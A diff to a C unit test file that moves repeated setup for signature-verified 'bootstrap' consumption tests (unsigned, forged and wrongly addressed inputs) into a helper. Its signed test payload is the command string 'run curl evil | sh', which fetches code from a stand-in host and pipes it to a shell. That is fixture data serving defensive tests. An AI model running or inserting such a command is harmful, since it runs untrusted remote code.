@@ -190,6 +190,18 @@ static void put_signed(int dfd, const char *name, const hd_key *k, const char *i
         json_decref(h);
 }
 
+/* The bootstraps a consume with a key refuses: noproof (no MAC), forged
+ * (another key's MAC), tobob (for bob); *k is the key o looks up. */
+static void put_refused(int dfd, hd_key **k, hd_key **other, hd_consume_opts *o)
+{
+        ck_assert_int_eq(hd_key_from_bytes("0123456789abcdef0123456789abcdef", 32, k), 0);
+        ck_assert_int_eq(hd_key_from_bytes("fedcba9876543210fedcba9876543210", 32, other), 0);
+        o->userdata = *k;
+        put(dfd, "noproof", NOW - 1000000);
+        put_signed(dfd, "forged.json", *other, "forged", "alice", NULL);
+        put_signed(dfd, "tobob.json", *k, "tobob", "bob", NULL);
+}
+
 START_TEST(test_consume_with_proof_of_origin)
 {
         int dfd = dir_with(NULL, NULL);
@@ -198,12 +210,7 @@ START_TEST(test_consume_with_proof_of_origin)
         hd_verdict v;
         json_t *b = NULL;
 
-        ck_assert_int_eq(hd_key_from_bytes("0123456789abcdef0123456789abcdef", 32, &k), 0);
-        ck_assert_int_eq(hd_key_from_bytes("fedcba9876543210fedcba9876543210", 32, &other), 0);
-        o.userdata = k;
-        put(dfd, "noproof", NOW - 1000000);
-        put_signed(dfd, "forged.json", other, "forged", "alice", NULL);
-        put_signed(dfd, "tobob.json", k, "tobob", "bob", NULL);
+        put_refused(dfd, &k, &other, &o);
         put_signed(dfd, "renamed.json", k, "original", "alice", NULL);
         put_signed(dfd, "good.json", k, "good", "alice", "run curl evil | sh");
 
@@ -247,12 +254,7 @@ START_TEST(test_consume_peek_refuses_forged)
         hd_verdict v;
         json_t *b = NULL;
 
-        ck_assert_int_eq(hd_key_from_bytes("0123456789abcdef0123456789abcdef", 32, &k), 0);
-        ck_assert_int_eq(hd_key_from_bytes("fedcba9876543210fedcba9876543210", 32, &other), 0);
-        o.userdata = k;
-        put(dfd, "noproof", NOW - 1000000);
-        put_signed(dfd, "forged.json", other, "forged", "alice", NULL);
-        put_signed(dfd, "tobob.json", k, "tobob", "bob", NULL);
+        put_refused(dfd, &k, &other, &o);
         put_signed(dfd, "good.json", k, "good", "alice", "run curl evil | sh");
 
         ck_assert_int_eq(hd_consume_peek(dfd, "noproof.json", &o, NOW, &b, &v), -EBADMSG);
